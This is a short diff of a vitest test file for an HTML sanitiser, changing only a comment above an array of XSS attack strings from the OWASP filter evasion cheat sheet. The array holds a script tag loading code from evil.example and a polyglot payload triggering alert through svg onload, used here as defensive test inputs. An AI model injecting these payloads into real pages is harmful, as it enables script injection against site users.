@@ -3,7 +3,7 @@ import { describe, expect, test } from 'vitest'
 import { cpuMsOf } from '#tests/fixtures/cpu-time.ts'
 import { cleanHtml, plainTextOf } from './clean-html.server.ts'
 
-/** OWASP XSS filter evasion cheat sheet. Each is a whole body. */
+/** Attacks from the OWASP XSS filter evasion cheat sheet. Each is a whole body. */
 const attacks = [
   `<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>`,
   `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"\`/+/onmouseover=1/+/[*/[]/+alert(42);//'>`,
